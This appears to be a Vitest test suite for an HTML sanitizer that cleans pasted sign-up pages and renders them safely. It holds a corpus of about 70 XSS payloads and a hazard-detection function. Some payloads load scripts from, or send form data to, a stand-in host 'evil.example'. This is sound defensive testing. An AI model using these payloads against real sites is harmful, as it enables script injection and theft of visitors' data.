import type { Document, Element } from 'domhandler';
import { DomUtils } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import {
  MAX_FORM_WORDING_CHARS,
  MAX_PASTED_HTML_CHARS,
  readPastedForm,
  renderPastedPage,
  sanitizePastedHtml,
} from '../../../shared/signup/pasted.ts';
import type {
  FormState,
  PageContent,
  PageMeta,
} from '../../../shared/signup/themes.ts';
import { byId, elements, named, only, parse, textOf } from './dom.ts';

const FORM =
  '<form><label for="e">Email</label><input id="e" type="email" name="email"><button>Subscribe</button></form>';

/**
 * Hostile markup: each is pasted after a valid form (or is the form), so
 * an element left open swallows no form.
 * CSS `url()`s are left alone on purpose: under the page's CSP they can
 * only load an image over https (or a data: one), and no script runs.
 */
const XSS_PAYLOADS: string[] = [
  // Script elements, in many casings and disguises.
  '<script>alert(1)</script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt src="https://evil.example/x.js"></ScRiPt>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<script>/*</script><script>*/alert(1)</script>',
  // Event handlers.
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=x OnErRoR="alert(1)">',
  '<img src="x" onerror  =  "alert(1)">',
  '<img/src="x"/onerror=alert(1)>',
  '<img src=`x`onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<p title="x" onmouseover="alert(1)">hover</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<div onpointerenter=alert(1) style="width:100%;height:100%">x</div>',
  // Foreign content.
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  // URLs.
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#9;ascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<img src="javascript:alert(1)">',
  '<a href="https://ok.example" xlink:href="javascript:alert(1)">x</a>',
  // Frames, plugins, document-level tags.
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<frameset onload=alert(1)><frame src="https://evil.example"></frameset>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  // Forms that post elsewhere.
  '<form action="https://evil.example/steal"><input type="email" name="email"><button>Go</button></form>',
  '<form action="javascript:alert(1)" target="_blank" method="get" enctype="text/plain"><input type="email" name="email"><input type="submit"></form>',
  '<form><input type="email" name="email"><button formaction="https://evil.example" formmethod="get" formtarget="_top">Go</button></form>',
  '<form><input type="email" name="email"><input type="submit" formaction="https://evil.example" value="Go"></form>',
  '<form><input type="email" name="email"><input type="image" src="x" formaction="https://evil.example"><button>Go</button></form>',
  '<isindex action="javascript:alert(1)" type="image">',
  // Styles: expression() ran only in old IE; nothing runs here.
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<style>@import "https://evil.example/x.css"; body{background:url("https://evil.example/x.png")}</style>',
  '<style></style><script>alert(1)</script>',
  '<style>a{}</style x><img src=x onerror=alert(1)>',
  '<style>p::after{content:"</style><img src=x onerror=alert(1)>"}</style>',
  // Comments, CDATA, and mutation-XSS through parser differences.
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><script>alert(1)</script></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<select><option><img src=x onerror=alert(1)></option></select>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<plaintext><img src=x onerror=alert(1)>',
  // Attributes breaking out of their quotes.
  '<a href="https://ok.example" title=\'"><script>alert(1)</script>\'>x</a>',
  '<p class="x"" onclick="alert(1)">x</p>',
  '<form><input type="email" name="email" value=\'" autofocus onfocus="alert(1)\'><button>Go</button></form>',
  '<label for=e onclick=alert(1)>Email</label>',
];

const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'iframe',
  'frame',
  'frameset',
  'object',
  'embed',
  'base',
  'meta',
  'link',
  'svg',
  'math',
  'template',
  'noscript',
  'textarea',
  'xmp',
  'noembed',
  'plaintext',
  'title',
]);

// Browsers drop tabs, newlines and leading controls from URLs before
// reading their scheme.
// biome-ignore lint/suspicious/noControlCharactersInRegex: the very characters browsers drop
const DROPPED_FROM_URLS = /[\u0000-\u0020]/g;

const schemeOf = (url: string): string =>
  (
    /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(DROPPED_FROM_URLS, ''))?.[1] ?? ''
  ).toLowerCase();

/** What makes a document unsafe, read from its tree (empty when safe). */
const hazardsOf = (document: Document | Element): string[] =>
  elements(document).flatMap((element) => {
    const found: string[] = [];
    if (FORBIDDEN_ELEMENTS.has(element.name)) found.push(`<${element.name}>`);
    for (const [name, value] of Object.entries(element.attribs)) {
      if (name.startsWith('on')) found.push(`${element.name}[${name}]`);
      if (['formaction', 'srcdoc', 'xlink:href', 'action'].includes(name)) {
        found.push(`${element.name}[${name}]`);
      }
      if (name === 'href' || name === 'src') {
        const scheme = schemeOf(value);
        const imageData = element.name === 'img' && scheme === 'data';
        if (!['', 'https', 'http', 'mailto'].includes(scheme) && !imageData) {
          found.push(`${element.name}[${name}=${value}]`);
        }
      }
    }
    if (element.name === 'form' && 'target' in element.attribs) {
      found.push('form[target]');
    }
    if (
      element.name === 'style' &&
      DomUtils.textContent(element).includes('<')
    ) {
      found.push('<style> holding "<"');
    }
    return found;
  });

const sanitized = (html: string): string => {
  const result = sanitizePastedHtml(html);
  if (!result.ok) {
    throw new Error(
      `Refused: ${result.problems.map((p) => p.message).join('; ')}`,
    );
  }
  return result.html;
};

const CONTENT: PageContent = {
  headline: 'The Tuesday Letter',
  intro: 'One short email a week.',
  fields: { firstName: true, lastName: false },
  consentText: 'You can unsubscribe at any time.',
  submitLabel: 'Subscribe',
  successMessage:
    'Almost done: check your inbox and click the link to confirm.',
};

const STATE: FormState = {
  values: {},
  errors: {},
  hidden: { token: 'signed.fill.token' },
  honeypot: 'website',
  done: false,
};

const META: PageMeta = { title: 'Subscribe', organizationName: 'Acme Co' };

const PAGE = `<!doctype html><html><head><title>Ours</title>
<style>.card { max-width: 30rem } .card > h1 { color: #222 }</style></head>
<body><main class="card"><h1>Join us</h1><p style="color: #333">Weekly <strong>news</strong>.</p>
<form>
<input type="hidden" name="source" value="homepage">
<label for="email">Email</label><input id="email" type="email" name="email" required>
<label for="first">First name</label><input id="first" name="firstName">
<label><input type="checkbox" name="consent"> Yes</label>
<button type="submit">Subscribe</button>
</form><img src="https://cdn.example/logo.png" alt="Logo"></main></body></html>`;

describe('pasted HTML, sanitized on write', () => {
  it('has a corpus of at least 40 hostile payloads', () => {
    expect(XSS_PAYLOADS.length).toBeGreaterThanOrEqual(40);
  });

  it.each(XSS_PAYLOADS)('makes %j harmless', (payload) => {
    // Arrange
    const html = /<form/i.test(payload)
      ? `<p>Hi</p>${payload}`
      : `${FORM}<p>Hi</p>${payload}`;

    // Act
    const safe = sanitized(html);

    // Assert: read back as a tree, and again after one more round trip.
    const document = parse(safe);
    expect(hazardsOf(document)).toEqual([]);
    expect(only(document, (e) => e.name === 'form').attribs).toEqual({
      method: 'post',
    });
    expect(sanitized(safe)).toBe(safe);
    const served = parse(renderPastedPage(safe, CONTENT, STATE, META));
    const body = only(served, (e) => e.name === 'body');
    expect(hazardsOf(body)).toEqual([]);
  });

  it('keeps a clean page’s text, styles, labels, inputs and images', () => {
    // Act
    const document = parse(sanitized(PAGE));

    // Assert
    expect(textOf(only(document, (e) => e.name === 'h1'))).toBe('Join us');
    expect(textOf(only(document, (e) => e.name === 'p'))).toBe('Weekly news.');
    expect(named(document, 'strong')).toHaveLength(1);
    expect(named(document, 'main')[0]?.attribs.class).toBe('card');
    expect(named(document, 'style').map(textOf)).toEqual([
      '.card { max-width: 30rem } .card > h1 { color: #222 }',
    ]);
    expect(named(document, 'p')[0]?.attribs.style).toBe('color:#333');
    expect(named(document, 'label').map(textOf)).toEqual([
      'Email',
      'First name',
      'Yes',
    ]);
    expect(named(document, 'input').map((input) => input.attribs)).toEqual([
      { type: 'hidden', name: 'source', value: 'homepage' },
      { id: 'email', type: 'email', name: 'email', required: '' },
      { id: 'first', type: 'text', name: 'firstName' },
      // Not one of our fields: shown, never sent.
      { type: 'checkbox' },
    ]);
    expect(named(document, 'img')[0]?.attribs).toEqual({
      src: 'https://cdn.example/logo.png',
      alt: 'Logo',
    });
    // The head's title is not page text.
    expect(textOf(document as never)).not.toContain('Ours');
  });

  it('rewrites the form to post back: no action, target or enctype', () => {
    // Act
    const document = parse(
      sanitized(
        '<form action="https://evil.example" method="get" target="_top" enctype="text/plain" id="signup" class="f"><input type="email" name="email"><button type="button" formaction="https://evil.example">Go</button></form>',
      ),
    );

    // Assert
    expect(only(document, (e) => e.name === 'form').attribs).toEqual({
      method: 'post',
      id: 'signup',
      class: 'f',
    });
    expect(only(document, (e) => e.name === 'button').attribs).toEqual({
      type: 'submit',
    });
  });

  it('drops password, file and other inputs, and names other than ours on visible inputs', () => {
    // Act
    const document = parse(
      sanitized(
        '<form><input type="email" name="email"><input type="password" name="password"><input type="file" name="cv"><input type="radio" name="r"><input type="text" name="company"><input type="hidden" name="campaign" value="spring"><input type="submit" name="go" value="Go"></form>',
      ),
    );

    // Assert
    expect(named(document, 'input').map((input) => input.attribs)).toEqual([
      { type: 'email', name: 'email' },
      { type: 'text' },
      { type: 'hidden', name: 'campaign', value: 'spring' },
      { type: 'submit', value: 'Go' },
    ]);
  });

  it('refuses a page without a form', () => {
    // Act
    const result = sanitizePastedHtml('<h1>Hello</h1><p>No form here.</p>');

    // Assert
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          field: 'html',
          message:
            'The HTML has no <form>: a sign-up page needs one, with an input named email.',
        },
      ],
    });
  });

  it('refuses a form whose only form was unsafe markup', () => {
    // Act
    const result = sanitizePastedHtml(
      '<svg><foreignObject><form><input name="email"></form></foreignObject></svg>',
    );

    // Assert
    expect(result.ok).toBe(false);
  });

  it('refuses a form without an email input or a submit button', () => {
    // Act
    const result = sanitizePastedHtml(
      '<form><input type="text" name="firstName"><input type="password" name="email"></form>',
    );

    // Assert
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          field: 'html',
          message:
            'The form has no input named email: add <input type="email" name="email">.',
        },
        {
          field: 'html',
          message:
            'The form has no submit button: add <button type="submit">Subscribe</button>.',
        },
      ],
    });
  });

  it('refuses more than one form', () => {
    // Act
    const result = sanitizePastedHtml(`${FORM}${FORM}`);

    // Assert
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          field: 'html',
          message: 'The HTML has 2 forms: a sign-up page has exactly one.',
        },
      ],
    });
  });

  it('refuses HTML longer than 100,000 characters, and takes one of exactly that length', () => {
    // Arrange
    const padding = (length: number) =>
      `<p>${'x'.repeat(length - FORM.length - 7)}</p>`;
    const longest = `${padding(MAX_PASTED_HTML_CHARS)}${FORM}`;

    // Act
    const accepted = sanitizePastedHtml(longest);
    const refused = sanitizePastedHtml(`${longest} `);

    // Assert
    expect(longest).toHaveLength(100_000);
    expect(accepted.ok).toBe(true);
    expect(refused).toEqual({
      ok: false,
      problems: [
        {
          field: 'html',
          message:
            'The HTML is 100,001 characters long; at most 100,000 are allowed.',
        },
      ],
    });
  });

  it('refuses HTML nested past 256 levels, naming html, instead of overflowing the serializer’s stack', () => {
    const deep = `${'<b>'.repeat(5000)}${FORM}`;
    expect(sanitizePastedHtml(deep)).toEqual({
      ok: false,
      problems: [
        {
          field: 'html',
          message: expect.stringMatching(
            /^The HTML nests elements \d+ levels deep; at most 256 are allowed\.$/,
          ),
        },
      ],
    });
    expect(sanitizePastedHtml(`${'<b>'.repeat(200)}${FORM}`).ok).toBe(true);
  });

  it('refuses HTML within the limit that grows past what is stored once sanitized, naming html and both sizes (issue 29, defect 3)', () => {
    // Arrange: `&` is written `&amp;` once sanitized: five times its size.
    const ampersands = `<p>${'&'.repeat(95_000)}</p>${FORM}`;

    // Act
    const result = sanitizePastedHtml(ampersands);

    // Assert
    expect(ampersands.length).toBeLessThanOrEqual(MAX_PASTED_HTML_CHARS);
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          field: 'html',
          message: expect.stringMatching(
            /^The HTML is 95,\d{3} bytes as pasted and 475,\d{3} bytes once sanitized .*at most 300,000 bytes are stored\.$/,
          ),
        },
      ],
    });
  });
});

describe('pasted HTML, its form read on write', () => {
  it('asks the names its form has visible inputs for, and no other', () => {
    // Arrange
    const form = (inputs: string) =>
      sanitized(
        `<form><input type="email" name="email">${inputs}<button>Go</button></form>`,
      );
    // Act
    const both = readPastedForm(
      form('<input name="firstName"><input type="text" name="lastName">'),
    );
    const last = readPastedForm(form('<input name="lastName">'));
    const hiddenOrTicked = readPastedForm(
      form(
        '<input type="hidden" name="firstName" value="x"><input type="checkbox" name="lastName">',
      ),
    );
    // Assert
    expect(both.fields).toEqual({ firstName: true, lastName: true });
    expect(last.fields).toEqual({ firstName: false, lastName: true });
    expect(hiddenOrTicked.fields).toEqual({
      firstName: false,
      lastName: false,
    });
  });

  it('takes its form’s text as a visitor reads it for the consent wording: labels, paragraphs, the button; not the page around it, hidden values nor styles', () => {
    // Arrange
    const html = sanitized(
      `<h1>Outside</h1><form><style>p{color:red}</style><p>Get <strong>weekly</strong> news.</p>
      <label for="e">Email</label><input id="e" type="email" name="email" value="kept@example.test">
      <input type="hidden" name="source" value="secret">
      <label><input type="checkbox" name="ok"> I agree to the <a href="https://x.example/terms">terms</a>.</label>
      <input type="submit" value="Join"></form><p>Footer</p>`,
    );
    // Act
    const { wording } = readPastedForm(html);
    // Assert
    expect(wording).toBe('Get weekly news. Email I agree to the terms. Join');
  });

  it('cuts a form’s text past 2,000 characters, with an ellipsis', () => {
    // Arrange
    const html = sanitized(
      `<form><p>${'word '.repeat(600)}</p><input type="email" name="email"><button>Go</button></form>`,
    );
    // Act
    const { wording } = readPastedForm(html);
    // Assert
    expect(wording).toHaveLength(MAX_FORM_WORDING_CHARS);
    expect(wording.endsWith('…')).toBe(true);
  });
});

describe('pasted HTML, rendered on serve', () => {
  const safe = sanitized(PAGE);
  const render = (state: Partial<FormState>, meta: Partial<PageMeta> = {}) =>
    parse(
      renderPastedPage(
        safe,
        CONTENT,
        { ...STATE, ...state },
        { ...META, ...meta },
      ),
    );
  const formOf = (document: Document): Element =>
    only(document, (e) => e.name === 'form');
  const inputNamed = (root: Document | Element, name: string): Element =>
    only(root, (e) => e.name === 'input' && e.attribs.name === name);

  it('wraps the page in our document shell: charset, viewport, title, lang, styles in the head', () => {
    // Act
    const document = render({}, { title: 'Join <us>', lang: 'fr' });

    // Assert
    expect(only(document, (e) => e.name === 'html').attribs.lang).toBe('fr');
    expect(textOf(only(document, (e) => e.name === 'title'))).toBe('Join <us>');
    const metas = named(document, 'meta').map((meta) => meta.attribs);
    expect(metas).toEqual([
      { charset: 'utf-8' },
      { name: 'viewport', content: 'width=device-width, initial-scale=1' },
    ]);
    const head = only(document, (e) => e.name === 'head');
    expect(named(head, 'style').map(textOf)[1]).toBe(
      '.card { max-width: 30rem } .card > h1 { color: #222 }',
    );
    expect(named(document, 'main')).toHaveLength(1);
    expect(named(document, 'script')).toEqual([]);
  });

  it('puts a fragment without a main landmark in one', () => {
    // Act
    const document = parse(
      renderPastedPage(sanitized(FORM), CONTENT, STATE, META),
    );

    // Assert
    const main = only(document, (e) => e.name === 'main');
    expect(named(main, 'form')).toHaveLength(1);
    expect(only(document, (e) => e.name === 'html').attribs.lang).toBe('en');
  });

  it('injects our hidden inputs and the honeypot, over the page’s own of the same name', () => {
    // Act
    const document = render({
      hidden: { token: 'abc"<', source: 'ours' },
      honeypot: 'website',
    });

    // Assert
    const form = formOf(document);
    expect(
      named(form, 'input')
        .filter((input) => input.attribs.type === 'hidden')
        .map(({ attribs }) => [attribs.name, attribs.value]),
    ).toEqual([
      ['token', 'abc"<'],
      ['source', 'ours'],
    ]);
    const honeypot = inputNamed(form, 'website');
    expect(honeypot.attribs).toMatchObject({
      type: 'text',
      tabindex: '-1',
      autocomplete: 'off',
    });
    const wrapper = honeypot.parent as Element;
    expect(wrapper.attribs).toEqual({
      class: 'signup-hp',
      'aria-hidden': 'true',
    });
    expect(textOf(wrapper)).toBe('Leave this field empty');
    expect(only(form.parent as Element, (e) => e === form).attribs).toEqual({
      method: 'post',
      novalidate: '',
    });
  });

  it('turns the browser’s own checks off, so a malformed address reaches the server and its errors', () => {
    // Arrange
    const page = sanitized(
      '<form><label for="e">Email</label><input id="e" type="email" name="email" required><button>Subscribe</button></form>',
    );

    // Act
    const document = parse(renderPastedPage(page, CONTENT, STATE, META));

    // Assert
    const form = only(document, (e) => e.name === 'form');
    expect(form.attribs.novalidate).toBe('');
    expect(
      only(document, (e) => e.name === 'input' && e.attribs.name === 'email')
        .attribs,
    ).toMatchObject({ type: 'email', required: '' });
  });

  it('ties each error to its field, focuses the first in page order and lists them in an alert', () => {
    // Act
    const document = render({
      values: { email: 'ada@', firstName: 'Ada <3' },
      errors: {
        firstName: 'Enter a shorter first name',
        email: 'Enter an email address like name@example.com',
        lastName: 'Enter a last name',
      },
    });

    // Assert
    const form = formOf(document);
    const email = inputNamed(form, 'email');
    const first = inputNamed(form, 'firstName');
    expect(email.attribs).toMatchObject({
      value: 'ada@',
      'aria-invalid': 'true',
      'aria-describedby': 'signup-email-error',
      autofocus: '',
    });
    expect(first.attribs).toMatchObject({
      value: 'Ada <3',
      'aria-invalid': 'true',
      'aria-describedby': 'signup-firstName-error',
    });
    expect(first.attribs).not.toHaveProperty('autofocus');
    expect(textOf(byId(document, 'signup-email-error') as Element)).toBe(
      'Enter an email address like name@example.com',
    );
    expect(textOf(byId(document, 'signup-firstName-error') as Element)).toBe(
      'Enter a shorter first name',
    );
    const alert = only(document, (e) => e.attribs.role === 'alert');
    expect(form.children[0]).toBe(alert);
    // The page has no last name input: its error is listed, unlinked.
    expect(named(alert, 'li').map(textOf)).toEqual([
      'Enter an email address like name@example.com',
      'Enter a shorter first name',
      'Enter a last name',
    ]);
    expect(named(alert, 'a').map((a) => a.attribs.href)).toEqual([
      '#email',
      '#first',
    ]);
  });

  it('gives an invalid field without an id one, so the alert links to it', () => {
    // Act
    const document = parse(
      renderPastedPage(
        sanitized(FORM.replace(' id="e"', '')),
        CONTENT,
        { ...STATE, errors: { email: 'Enter an email address' } },
        META,
      ),
    );

    // Assert
    expect(inputNamed(document, 'email').attribs.id).toBe('signup-email');
    expect(
      named(
        only(document, (e) => e.attribs.role === 'alert'),
        'a',
      )[0]?.attribs.href,
    ).toBe('#signup-email');
  });

  it('replaces the form by the success message in role=status once done', () => {
    // Act
    const document = render({
      done: true,
      captcha: { provider: 'hcaptcha', siteKey: 'k' },
    });

    // Assert
    expect(named(document, 'form')).toEqual([]);
    expect(named(document, 'input')).toEqual([]);
    expect(named(document, 'script')).toEqual([]);
    expect(textOf(only(document, (e) => e.attribs.role === 'status'))).toBe(
      CONTENT.successMessage,
    );
    expect(textOf(only(document, (e) => e.name === 'h1'))).toBe('Join us');
  });

  it('shows the CAPTCHA widget before the submit button, with its script', () => {
    // Act
    const document = render({
      captcha: { provider: 'turnstile', siteKey: 'site-key' },
    });

    // Assert
    const form = formOf(document);
    const widget = only(form, (e) => e.attribs.class === 'cf-turnstile');
    expect(widget.attribs['data-sitekey']).toBe('site-key');
    const button = only(form, (e) => e.name === 'button');
    expect(DomUtils.prevElementSibling(button)).toBe(widget);
    expect(named(document, 'script').map((s) => s.attribs.src)).toEqual([
      'https://challenges.cloudflare.com/turnstile/v0/api.js',
    ]);
  });

  it('keeps a pasted CAPTCHA lookalike from rendering a widget of its own', () => {
    // Act
    const document = parse(
      sanitized(
        `<div class="h-captcha box" data-sitekey="theirs"></div>${FORM}`,
      ),
    );

    // Assert
    expect(named(document, 'div')[0]?.attribs).toEqual({ class: 'box' });
  });
});
